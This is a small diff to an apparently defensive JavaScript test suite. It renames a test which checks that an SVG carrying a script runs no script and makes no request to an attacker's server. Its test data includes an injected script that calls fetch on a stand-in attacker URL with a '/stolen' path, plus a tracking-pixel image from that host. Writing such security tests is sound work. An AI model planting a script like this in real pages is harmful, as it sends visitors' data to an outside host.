@@ -129,7 +129,7 @@ describe('a page of another site, in a browser', () => {
 })
 
 describe('an SVG that carries a script, opened as a page', () => {
-  it('runs nothing and sends nothing anywhere', async () => {
+  it('runs no script and requests nothing from the server of the attacker', async () => {
     await mkdir(daemon.config.output, { recursive: true })
     const script = `document.title = 'ran'; fetch('${evilUrl}/stolen')`
     const image = `<image href="${evilUrl}/pixel.png" width="1" height="1"/>`
